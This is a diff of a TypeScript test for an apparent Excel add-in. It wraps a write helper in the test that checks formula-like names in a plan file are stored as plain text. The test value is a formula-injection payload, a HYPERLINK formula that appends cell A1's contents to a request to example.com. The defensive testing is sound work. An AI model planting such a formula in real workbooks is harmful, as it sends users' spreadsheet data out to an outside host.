@@ -3,6 +3,7 @@ import { migrate, type Migration } from '../../../src/plan/migrations.ts';
 import { LARGEST_PLAN_FILE, readPlanFile, writePlanFile } from '../../../src/plan/planFile.ts';
 import { planFromTemplate } from '../../../src/plan/templates.ts';
 import { planSheet } from '../../../src/sheets/planSheet.ts';
+import { atOnce } from '../../../src/pieces.ts';
 import { planWrites } from '../../../taskpane/excel/planWrites.ts';
 
 const plan = planFromTemplate('new_team', 'en');
@@ -99,7 +100,7 @@ describe('a plan file', () => {
   it('[S-42] should bring names that look like formulas into the workbook as text', () => {
     const hostile = '=HYPERLINK("http://example.com/?"&A1)';
     const read = readPlanFile(fileOf({ ...withFirst({ name: hostile }), name: hostile }));
-    const ops = read.ok ? planWrites(planSheet(read.value, 'en')) : null;
+    const ops = read.ok ? atOnce(planWrites(planSheet(read.value, 'en'))) : null;
     expect(JSON.stringify(ops?.formulas)).not.toContain('HYPERLINK');
     const written = (ops?.contents ?? []).flatMap((op) => (op.kind === 'values' ? op.values.flat() : []));
     expect(written.filter((cell) => cell === `'${hostile}`)).toHaveLength(2);
